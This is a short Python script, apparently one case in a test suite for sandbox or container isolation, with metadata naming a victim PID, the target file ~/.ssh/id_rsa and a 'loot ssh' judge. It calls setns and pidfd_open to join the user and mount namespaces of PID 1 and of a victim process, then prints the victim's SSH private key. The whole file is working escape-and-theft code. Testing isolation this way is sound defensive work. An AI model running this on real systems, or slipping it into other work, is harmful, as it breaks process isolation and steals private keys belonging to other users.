"""Joins the namespaces of the first process and of a process of the person.

family: kernel
arguments: {victim_pid} {home}/.ssh/id_rsa
judge: loot ssh
trace: setns
"""

import contextlib
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
for pid in ("1", sys.argv[1]):
    for kind in ("user", "mnt"):
        with contextlib.suppress(OSError):
            space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if libc.setns(space, 0) != 0:
                print(os.strerror(ctypes.get_errno()))
    with contextlib.suppress(OSError):
        if libc.setns(os.pidfd_open(int(pid)), 0x10020000) != 0:
            print(os.strerror(ctypes.get_errno()))
with open(sys.argv[2]) as file:
    print(file.read())
